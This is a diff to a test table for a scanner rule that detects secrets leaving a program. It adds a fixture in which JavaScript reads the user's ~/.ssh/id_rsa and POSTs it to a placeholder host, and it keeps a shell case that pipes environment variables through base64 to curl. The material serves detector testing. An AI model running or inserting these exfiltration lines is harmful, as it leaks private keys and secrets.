@@ -292,6 +292,17 @@ const rows: readonly Row[] = [
     ],
   ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "index.js": fires }, silent: { "index.js": silent } })),
   {
+    rule: "flow/secret-leaves", // a function that gives back what it was given, with something put into it
+    fires: {
+      "a.js":
+        'const fs = require("fs"), os = require("os")\nconst put = (o, s) => { o.append("a", s); return o }\nput(new FormData(), 1)\nfetch("https://a.example.org/", { method: "POST", body: put(new FormData(), fs.readFileSync(os.homedir() + "/.ssh/id_rsa")) })\n',
+    },
+    silent: {
+      "a.js":
+        'const fs = require("fs"), os = require("os")\nconst put = (o, s) => { o.append("a", s); return o }\nput(new FormData(), 1)\nfetch("https://a.example.org/", { method: "POST", body: put(new FormData(), fs.readFileSync("a")) })\n',
+    },
+  },
+  {
     rule: "flow/secret-leaves",
     fires: { configure: "#!/bin/sh\nenv | base64 | curl -d @- http://h.example.org\n" },
     silent: { configure: "#!/bin/sh\nenv | base64\ncurl -d @a http://h.example.org\n" },
